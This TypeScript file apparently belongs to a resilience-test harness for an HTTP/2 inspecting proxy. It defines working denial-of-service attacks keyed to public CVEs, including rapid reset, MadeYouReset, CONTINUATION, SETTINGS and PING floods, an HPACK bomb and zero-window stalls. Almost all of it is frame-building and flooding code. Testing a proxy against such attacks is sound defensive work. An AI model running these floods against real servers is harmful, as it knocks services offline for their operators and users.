/**
 * Attacks by HTTP/2 inside an inspected tunnel, by a client that has a token and a rule: what a stream or a frame costs the
 * proxy more than it costs the sender. Each kind is a public one (CVE numbers stand beside them).
 */
import {
  bytes,
  CONTINUATION,
  DATA,
  END_HEADERS,
  END_STREAM,
  frame,
  HEADERS,
  headers,
  INITIAL_WINDOW_SIZE,
  PING,
  RST_STREAM,
  setting,
  SETTINGS,
  streamIds,
  WINDOW_UPDATE,
} from "./http2_frames.ts";
import { openHttp2, proveAdmitted, written } from "./http2_tunnel.ts";
import { pause, repeat } from "./lanes.ts";
import type { Attack, Tally, Target } from "./target.ts";

export const http2Attacks: readonly Attack[] = [
  {
    name: "h2-rapid-reset",
    about: "opens streams and resets each at once (CVE-2023-44487)",
    run: (target) =>
      flood(target, (turn) =>
        bytes(
          ...streamIds(400, turn).flatMap((id) => [
            frame(HEADERS, END_HEADERS | END_STREAM, id, get(target)),
            frame(RST_STREAM, 0, id, [0, 0, 0, 8]),
          ]),
        )),
  },
  {
    name: "h2-late-reset",
    about: "opens streams and resets them when they have begun, so that the upstream sees each",
    // A client gives up 300 at once, may owe as many, and has fifty under way in each of four tunnels.
    mostBegun: { atOnce: 800, perSecond: 66 },
    run: async (target) => {
      await proveAdmitted(target);
      const late = headers({ method: "GET", path: "/late", authority: target.http2Host });
      return await repeat(target, { lanes: 4, perSecond: 40 }, async (lane) => {
        const socket = await openHttp2(target, lane);
        try {
          for (let turn = 0; turn < 25 && socket.writable; turn++) {
            const ids = streamIds(50, turn);
            await written(
              socket,
              bytes(...ids.map((id) => frame(HEADERS, END_HEADERS | END_STREAM, id, late))),
            );
            await pause(20); // they have begun
            await written(socket, bytes(...ids.map((id) => frame(RST_STREAM, 0, id, [0, 0, 0, 8]))));
          }
        } finally {
          socket.destroy();
        }
      });
    },
  },
  {
    name: "h2-abandon",
    about: "opens streams and leaves them behind with their connection",
    run: async (target) => {
      await proveAdmitted(target);
      return await repeat(target, { lanes: 4, perSecond: 40 }, async (lane) => {
        const socket = await openHttp2(target, lane);
        try {
          const ids = streamIds(100);
          await written(
            socket,
            bytes(...ids.map((id) => frame(HEADERS, END_HEADERS | END_STREAM, id, get(target)))),
          );
          await pause(5); // they are read before the end is
        } finally {
          socket.destroy();
        }
      });
    },
  },
  {
    name: "h2-made-you-reset",
    about: "opens streams and makes the proxy reset each: a window that grows by 0 (CVE-2025-8671)",
    run: (target) =>
      flood(target, (turn) =>
        bytes(
          ...streamIds(400, turn).flatMap((id) => [
            frame(HEADERS, END_HEADERS | END_STREAM, id, get(target)),
            frame(WINDOW_UPDATE, 0, id, [0, 0, 0, 0]),
          ]),
        )),
  },
  {
    name: "h2-continuation",
    about: "a head that goes on for ever in CONTINUATION frames (CVE-2024-27316)",
    run: (target) => {
      const more = bytes(
        ...Array.from({ length: 20 }, () => frame(CONTINUATION, 0, 1, new Uint8Array(16_000))),
      );
      return flood(
        target,
        (turn) => turn === 0 ? bytes(frame(HEADERS, END_STREAM, 1, get(target)), more) : more,
      );
    },
  },
  {
    name: "h2-continuation-empty",
    about: "the same with empty CONTINUATION frames",
    run: (target) => {
      const more = bytes(...Array.from({ length: 10_000 }, () => frame(CONTINUATION, 0, 1, [])));
      return flood(
        target,
        (turn) => turn === 0 ? bytes(frame(HEADERS, END_STREAM, 1, get(target)), more) : more,
      );
    },
  },
  {
    name: "h2-settings",
    about: "SETTINGS as fast as they go, and nobody reads the acknowledgements (CVE-2019-9515)",
    run: (target) => {
      const many = bytes(...Array.from({ length: 5_000 }, () => frame(SETTINGS, 0, 0, setting(3, 100))));
      return flood(target, () => many, { isDeaf: true });
    },
  },
  {
    name: "h2-ping",
    about: "PINGs as fast as they go, and nobody reads the answers (CVE-2019-9512)",
    run: (target) => {
      const many = bytes(...Array.from({ length: 5_000 }, () => frame(PING, 0, 0, new Uint8Array(8))));
      return flood(target, () => many, { isDeaf: true });
    },
  },
  {
    name: "h2-empty-frames",
    about: "empty DATA frames to an upload (CVE-2019-9518)",
    run: (target) => {
      const many = bytes(...Array.from({ length: 10_000 }, () => frame(DATA, 0, 1, [])));
      return flood(
        target,
        (turn) => turn === 0 ? bytes(frame(HEADERS, END_HEADERS, 1, upload(target)), many) : many,
      );
    },
  },
  {
    name: "h2-hpack-bomb",
    about: "a field of 4 KB put into the table once and named 15,000 times in each head",
    run: (target) => {
      const field = bytes([0x40, 1, 0x78, 0x7f, 0xa1, 0x1e], new Uint8Array(4_000).fill(0x61)); // x: aaaa…, indexed
      const bomb = bytes(get(target), field, new Uint8Array(12_000).fill(0xbe)); // 62, the newest entry
      return flood(target, (turn) => bytes(frame(HEADERS, END_HEADERS | END_STREAM, 2 * turn + 1, bomb)));
    },
  },
  {
    name: "h2-zero-window",
    about: "100 answers of 1 MiB in each of 40 tunnels, and windows of 0 for all of them (CVE-2019-9517)",
    // 4,000 requests in a second keep two cores busy, which the attacker shares: a new tunnel takes 0.3 to 0.5 s, and may
    // take 0.35: it holds in most tries, and not in each.
    isLong: true,
    run: (target) => hold(target, { begin: () => largeAnswers(target, 0) }),
  },
  {
    name: "h2-one-byte-windows",
    about: "the same with windows that grow by 1 byte at a time (CVE-2019-9511)",
    isLong: true, // as above
    run: (target) =>
      hold(target, {
        begin: () => largeAnswers(target, 1),
        goOn: () => bytes(...streamIds(100).map((id) => frame(WINDOW_UPDATE, 0, id, [0, 0, 0, 1]))),
      }),
  },
  {
    name: "h2-idle-streams",
    about: "100 uploads in each of 40 tunnels that never go on",
    run: (target) =>
      hold(target, {
        begin: () => bytes(...streamIds(100).map((id) => frame(HEADERS, END_HEADERS, id, upload(target)))),
      }),
  },
];

function get({ http2Host }: Target): Uint8Array<ArrayBuffer> {
  return headers({ method: "GET", path: "/a", authority: http2Host });
}

/** Of an upload that never goes on. */
function upload({ http2Host }: Target): Uint8Array<ArrayBuffer> {
  return headers({ method: "POST", path: "/open", authority: http2Host });
}

/** Asks for 100 bodies of 1 MiB. */
function largeAnswers({ http2Host }: Target, window: number): Uint8Array<ArrayBuffer> {
  const large = headers({ method: "GET", path: "/large", authority: http2Host });
  return bytes(
    frame(SETTINGS, 0, 0, setting(INITIAL_WINDOW_SIZE, window)),
    ...streamIds(100).map((id) => frame(HEADERS, END_HEADERS | END_STREAM, id, large)),
  );
}

/** Sends what `make` gives every 5 ms, in tunnels that are opened anew when they end, or after half a second. */
async function flood(
  target: Target,
  make: (turn: number) => Uint8Array,
  { isDeaf = false } = {},
): Promise<Tally> {
  await proveAdmitted(target);
  let writes = 0;
  const { tries } = await repeat(target, { lanes: 4, perSecond: 40 }, async (lane) => {
    const socket = await openHttp2(target, lane);
    try {
      if (isDeaf) socket.pause();
      const until = performance.now() + 500;
      for (let turn = 0; socket.writable && performance.now() < until; turn++) {
        writes++;
        await written(socket, make(turn));
        await pause(5);
      }
    } finally {
      socket.destroy();
    }
  });
  return { tries, note: `${writes} writes` };
}

/** Forty tunnels that are held until the end, and opened anew when they are closed; `goOn` is sent ten times a second. */
async function hold(
  target: Target,
  { begin, goOn }: { readonly begin: () => Uint8Array; readonly goOn?: () => Uint8Array },
): Promise<Tally> {
  await proveAdmitted(target);
  const until = performance.now() + target.seconds * 1_000;
  return await repeat(target, { lanes: 40, perSecond: 40 }, async (lane) => {
    const socket = await openHttp2(target, lane);
    try {
      await written(socket, begin());
      while (!socket.destroyed && performance.now() < until) {
        await pause(100);
        if (goOn) await written(socket, goOn());
      }
    } finally {
      socket.destroy();
    }
  });
}
